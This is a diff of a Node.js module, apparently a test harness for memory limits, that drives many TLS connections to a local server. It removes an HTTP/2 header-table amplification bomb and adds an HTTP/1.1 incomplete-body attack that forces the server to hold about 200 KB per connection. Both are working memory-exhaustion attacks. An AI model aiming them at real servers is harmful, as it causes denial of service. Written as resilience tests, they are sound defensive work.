@@ -1,26 +1,12 @@
-// An attack on memory: HTTP/2 connections with incomplete requests, whose heads repeat references to one large entry of the
-// header table (RFC 7541 section 7.3): about 70 bytes on the wire make the server store 8 KB.
+// An attack on memory: connections with incomplete requests, whose bodies the server must keep until their rest comes.
 import { once } from 'node:events'
 import { connect } from 'node:tls'
-import { block, frame, integer, join, kFlag, kPreface, kType, settings } from './http2_frames.mjs'
 
-const kEntry = 3_900 // with its name and the 32 bytes of RFC 7541 section 4.1 it fits a table of 4,096
-const kReferences = 2 // more would exceed the limit of a header block
-const kStreams = 60
-const kNewest = Buffer.from([0x80 | 62]) // the entry added last: the first after the static table
+const kBody = 200_000 // the server needs limits.body of 256 KiB
 
-const pseudo = block([[':method', 'POST'], [':scheme', 'https'], [':path', '/oauth/token'], [':authority', 'a']])
-// "Literal Header Field with Incremental Indexing -- New Name" (RFC 7541 section 6.2.1).
-const entry = join([Buffer.from([0x40])], integer(0, 7, 1), 'x', integer(0, 7, kEntry), 'v'.repeat(kEntry))
-
-/** The bytes that one connection sends. */
-export function bomb() {
-  const heads = [frame(kType.headers, kFlag.endHeaders, 1, join(pseudo, entry))]
-  for (let index = 1; index < kStreams; ++index) {
-    heads.push(frame(kType.headers, kFlag.endHeaders, 2 * index + 1, join(pseudo, Array(kReferences).fill(kNewest))))
-  }
-  return join(kPreface, settings(), heads)
-}
+/** The bytes that one connection sends: a head and most of its body. */
+const unfinished = (port) =>
+  `POST /oauth/token HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\nContent-Length: ${kBody + 1}\r\n\r\n${'a'.repeat(kBody)}`
 
 /**
  * Opens `count` connections over TLS, each from the address from(index), and sends these bytes on each. Resolves, when
@@ -28,11 +14,11 @@ export function bomb() {
  * and what closes all of them.
  */
 export async function attackMemory(port, { ca, count, from }) {
-  const bytes = bomb()
+  const bytes = unfinished(port)
   const sockets = []
   let sent = 0
   const one = async (index) => {
-    const socket = connect({ port, host: '127.0.0.1', localAddress: from(index), ca, ALPNProtocols: ['h2'] })
+    const socket = connect({ port, host: '127.0.0.1', localAddress: from(index), ca, ALPNProtocols: ['http/1.1'] })
     sockets.push(socket)
     socket.on('error', () => {}).resume()
     const gone = once(socket, 'close').catch(() => {})
